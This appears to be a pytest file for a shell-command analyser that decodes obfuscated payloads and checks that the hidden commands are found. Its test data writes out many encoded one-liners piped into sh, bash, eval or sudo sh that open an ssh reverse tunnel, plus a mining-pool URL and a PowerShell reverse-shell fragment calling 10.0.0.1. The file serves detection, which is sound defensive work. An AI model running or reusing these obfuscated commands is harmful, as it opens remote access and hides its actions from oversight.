"""Encoded payloads: decoded, recorded, and analysed again when a shell runs them."""

from __future__ import annotations

import base64
import gzip

import pytest
from shell_support import analyze, first

TUNNEL = ["ssh", "-R", "80:h:22", "u@e"]
B64 = base64.b64encode(b"ssh -R 80:h:22 u@e").decode()  # c3NoIC1SIDgwOmg6MjIgdUBl
HEX = b"ssh -R 80:h:22 u@e".hex()


@pytest.mark.parametrize(
    ("line", "via"),
    [
        (f"echo {B64} | base64 -d | sh", ("sh stdin", "base64 -d")),
        (f"echo {B64} | base64 --decode | bash", ("bash stdin", "base64 -d")),
        (f"printf %s {B64} | base64 -d | bash -s", ("bash stdin", "base64 -d")),
        (f"base64 -d <<< {B64} | sh", ("sh stdin", "base64 -d")),
        (f"sh <<< $(echo {B64} | base64 -d)", ("sh <<<", "base64 -d")),
        (f"echo {B64} | openssl enc -d -base64 | sh", ("sh stdin", "openssl base64 -d")),
        (f"echo {B64} | openssl base64 -d -A | sh", ("sh stdin", "openssl base64 -d")),
        (f"echo {HEX} | xxd -r -p | sh", ("sh stdin", "xxd -r -p")),
        (f"xxd -rp <<< {HEX} | sh", ("sh stdin", "xxd -r -p")),
        ("echo 'e@u 22:h:08 R- hss' | rev | sh", ("sh stdin", "rev")),
        (f"echo {B64[::-1]} | rev | base64 -d | sh", ("sh stdin", "base64 -d", "rev")),
        ("echo 'tti -R 80:i:22 v@f' | tr 'b-za' 'a-z' | sh", ("sh stdin", "tr")),
        ("echo 'ffu -E 80:u:22 h@r' | tr 'A-Za-z' 'N-ZA-Mn-za-m' | sh", ("sh stdin", "tr")),
        (f'bash -c "$(echo {B64} | base64 -d)"', ("bash -c", "base64 -d")),
        (f'bash -c "$(base64 -d <<< {B64})"', ("bash -c", "base64 -d")),
        (f"eval $(echo {B64} | base64 -d)", ("eval", "base64 -d")),
        (f'x=$(echo {B64} | base64 -d); eval "$x"', ("eval", "base64 -d")),
        (
            f"echo {B64} | base64 -d > /tmp/x; echo {B64} | base64 -d | sudo sh",
            ("sudo", "sh stdin", "base64 -d"),
        ),
        (f"base64 -d <<EOF | sh\n{B64}\nEOF", ("sh stdin", "base64 -d")),
        (f"cat <<EOF | base64 -d | bash\n{B64}\nEOF", ("bash stdin", "base64 -d")),
        ("printf '\\x73\\x73\\x68 -R 80:h:22 u@e' | sh", ("sh stdin", "printf")),
        ("printf '\\163\\163\\150 -R 80:h:22 u@e' | sh", ("sh stdin", "printf")),
        ("echo -e '\\x73\\x73\\x68 -R 80:h:22 u@e' | bash", ("bash stdin", "echo -e")),
        (f"echo {B64} | base64 -d | xargs -0 sh -c", ("xargs", "sh -c", "base64 -d")),
    ],
)
def test_decoded_payload_reaches_the_shell(line: str, via: tuple[str, ...]) -> None:
    result = analyze(line)
    assert result.problems == []
    ssh = [c for c in result.commands if c.program == "ssh"]
    assert ssh, [c.argv for c in result.commands]
    assert ssh[-1].argv == TUNNEL
    assert ssh[-1].via == via


def test_decoded_argv() -> None:
    cmd = first(f"$(echo {B64[:4]} | base64 -d) -R 80:h:22 u@e", "ssh")
    assert cmd.argv == TUNNEL and cmd.via == ("base64 -d",)
    cmd = first("$(printf '\\x73\\x73\\x68') -R 80:h:22 u@e", "ssh")
    assert cmd.via == ("printf",)
    cmd = first("`echo c3No | base64 -d` -R 80:h:22 u@e", "ssh")
    assert cmd.argv == TUNNEL


def test_payloads_are_recorded() -> None:
    result = analyze(f"echo {B64} | base64 -d | sh")
    assert [(p.encoding, p.text, p.source) for p in result.payloads] == [
        ("base64", "ssh -R 80:h:22 u@e", "base64 -d")
    ]
    assert "ssh -R 80:h:22 u@e" in result.texts


def test_payload_not_run_is_still_recorded() -> None:
    blob = base64.b64encode(b"stratum+tcp://pool.example:3333").decode()
    result = analyze(f"echo {blob} | base64 -d > /tmp/cfg")
    assert result.problems == []
    assert result.payloads[0].text == "stratum+tcp://pool.example:3333"
    assert "stratum+tcp://pool.example:3333" in result.texts
    assert analyze("printf '\\x73\\x74\\x72' > /tmp/x").payloads[0].text == "str"


def test_plain_printf_is_not_a_payload() -> None:
    assert analyze("printf '%s\\n' hello").payloads == []
    assert analyze("echo hello | base64").payloads == []


def test_gzip_payload() -> None:
    blob = base64.b64encode(gzip.compress(b"ssh -R 80:h:22 u@e")).decode()
    cmd = first(f"echo {blob} | base64 -d | gunzip | sh", "ssh")
    assert cmd.via == ("sh stdin", "gzip -d", "base64 -d")


def test_decode_budget() -> None:
    blob = base64.b64encode(b"A" * 70_000).decode()
    result = analyze(f"echo {blob} | base64 -d | sh")
    assert any("decoded payloads exceed the 65536-byte" in p for p in result.problems)


def test_decompression_bomb_is_bounded() -> None:
    blob = base64.b64encode(gzip.compress(b"\0" * 10_000_000)).decode()
    result = analyze(f"echo {blob} | base64 -d | gunzip | sh")
    assert any("decoded payloads exceed" in p for p in result.problems)


def test_nested_encodings_fed_to_shells() -> None:
    inner = base64.b64encode(b"ssh -R 80:h:22 u@e").decode()
    outer = base64.b64encode(f"echo {inner} | base64 -d | bash".encode()).decode()
    cmd = first(f"echo {outer} | base64 -d | sh", "ssh")
    assert cmd.via == ("sh stdin", "base64 -d", "bash stdin", "base64 -d")


def test_garbage_is_not_a_payload() -> None:
    result = analyze("echo '!!!' | base64 -d | sh")
    assert result.problems == []
    assert [c.program for c in result.commands] == ["echo", "base64", "sh"]


def test_unknown_input_is_not_decoded() -> None:
    result = analyze('echo "$PAYLOAD" | base64 -d | sh')
    assert result.payloads == [] and result.problems == []
    assert [c.program for c in result.commands] == ["echo", "base64", "sh"]
    shell = analyze('echo "$PAYLOAD" | sh')
    assert shell.commands[-1].program == "$PAYLOAD" and shell.commands[-1].unresolved


def test_powershell_encoded_command() -> None:
    script = "$c=New-Object System.Net.Sockets.TCPClient('10.0.0.1',4242); iex $d"
    blob = base64.b64encode(script.encode("utf-16-le")).decode()
    for flag in ("-EncodedCommand", "-enc", "-e", "-ec", "/enc"):
        result = analyze(f"pwsh -NoProfile {flag} {blob}")
        assert [(p.encoding, p.text) for p in result.payloads] == [("base64", script)], flag
        assert script in result.texts
    assert analyze(f"pwsh -ExecutionPolicy Bypass -File x.ps1 {blob}").payloads == []
